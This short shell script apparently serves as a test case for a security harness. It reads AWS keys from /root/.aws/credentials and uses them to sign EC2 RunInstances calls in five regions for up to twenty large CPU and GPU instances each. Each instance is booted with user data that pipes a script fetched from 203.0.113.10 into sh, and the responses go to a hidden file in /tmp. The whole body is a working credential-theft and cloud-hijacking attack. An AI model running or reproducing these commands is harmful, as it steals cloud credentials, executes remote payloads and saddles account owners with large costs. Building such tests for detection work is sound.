#!/bin/sh
. /opt/case/case.sh

set -- $(awk -F' = ' '/aws_/ { print $2 }' /root/.aws/credentials)
data=$(printf '#!/bin/sh\ncurl 203.0.113.10/payload.sh | sh\n' | base64 -w0)
for r in us-east-1 us-west-2 eu-central-1 ap-northeast-1 sa-east-1; do
    for type in c5.24xlarge p3.16xlarge; do
        curl -s --aws-sigv4 "aws:amz:$r:ec2" --user "$1:$2" --data-urlencode "UserData=$data" -d "Action=RunInstances&InstanceType=$type&MinCount=1&MaxCount=20&ImageId=ami-0abc" http://ec2.$r.amazonaws.com/ >>/tmp/.r
    done
done
test "$(grep -c ok /tmp/.r)" = 10
took_place
